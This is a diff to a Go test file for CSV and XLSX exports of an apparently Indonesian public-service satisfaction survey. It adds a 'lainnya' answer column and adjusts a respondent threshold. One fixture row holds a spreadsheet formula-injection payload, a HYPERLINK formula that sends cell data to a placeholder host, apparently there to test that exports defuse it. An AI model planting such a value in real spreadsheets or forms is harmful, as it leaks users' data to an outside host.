@@ -123,6 +123,11 @@ func exportFixtures(t *testing.T, db *storage.DB) []exportResp {
 		{a, nil, "2026-04-01T05:00:00Z", storage.ResponseComplete, [9]int{}, "P", age(40), `=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`},
 	}
 	exportStore(t, db, rs)
+	// The third also answered two questions its agency added to the flow.
+	if _, err := db.Exec(db.Rebind("UPDATE responses SET lainnya = ? WHERE finished_at = ?"), "asal_info: Dari tetangga\nkunjungan: 2",
+		time.Date(2026, 1, 7, 4, 15, 0, 0, time.UTC).UnixMilli()); err != nil {
+		t.Fatal(err)
+	}
 	return rs
 }
 
@@ -137,18 +142,18 @@ func TestResponsesCSV(t *testing.T) {
 	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
 		rs := exportFixtures(t, db)
 		h := exportServer(t, db)
-		const header = "\uFEFFwaktu,unit,nama_unit,layanan,jenis_kelamin,usia,pendidikan,pekerjaan,U1,U2,U3,U4,U5,U6,U7,U8,U9,perbaikan,saran\n"
+		const header = "\uFEFFwaktu,unit,nama_unit,layanan,jenis_kelamin,usia,pendidikan,pekerjaan,U1,U2,U3,U4,U5,U6,U7,U8,U9,perbaikan,saran,lainnya\n"
 		tests := []struct {
 			name, target, filename, body string
 		}{
 			{"a unit's complete responses of the period are the rows, oldest first",
 				"/api/v1/responses.csv?unit=EXA&from=2026-01-01&to=2026-01-31", "skm_EXA_2026-01-01_2026-01-31.csv",
 				header +
-					`2026-01-05T02:30:00Z,EXA,Samsat Contoh,Pembayaran PKB,L,34,,,4,4,4,4,4,4,4,4,4,,"Antre ""lama"", tapi ramah"` + "\n" +
-					"2026-01-07T04:15:00Z,EXA,Samsat Contoh,,,,,,3,3,3,3,3,3,3,1,,,Toilet kotor\n"},
+					`2026-01-05T02:30:00Z,EXA,Samsat Contoh,Pembayaran PKB,L,34,,,4,4,4,4,4,4,4,4,4,,"Antre ""lama"", tapi ramah",` + "\n" +
+					"2026-01-07T04:15:00Z,EXA,Samsat Contoh,,,,,,3,3,3,3,3,3,3,1,,,Toilet kotor,\"asal_info: Dari tetangga\nkunjungan: 2\"\n"},
 			{"without a unit every unit is exported",
 				"/api/v1/responses.csv?from=2026-01-06&to=2026-01-06", "skm_semua_2026-01-06_2026-01-06.csv",
-				header + "2026-01-06T03:00:00Z,EXB,RSUD Contoh,,P,,,,2,2,2,2,2,2,2,2,2,,\n"},
+				header + "2026-01-06T03:00:00Z,EXB,RSUD Contoh,,P,,,,2,2,2,2,2,2,2,2,2,,,\n"},
 			{"a period without responses gives the header only",
 				"/api/v1/responses.csv?unit=EXB&from=2026-02-01&to=2026-02-28", "skm_EXB_2026-02-01_2026-02-28.csv", header},
 		}
@@ -373,7 +378,7 @@ func TestReportXLSXOfDemoData(t *testing.T) {
 		res := scoring.Compute(tally, scoring.Bands2017)
 		f := exportXLSX(t, exportServer(t, db), "/api/v1/report.xlsx?unit=DEMO-SAMSAT-SBY&from=2026-05-01&to=2026-06-30")
 		t.Run("the footer IKM equals scoring.Compute's over the same responses", func(t *testing.T) {
-			if got := exportFooter(t, f, report.LabelIKM, "B"); got != res.IKM.String() || tally.Respondents < 250 {
+			if got := exportFooter(t, f, report.LabelIKM, "B"); got != res.IKM.String() || tally.Respondents < 200 {
 				t.Errorf("IKM %q, want %q (%d respondents)", got, res.IKM, tally.Respondents)
 			}
 		})
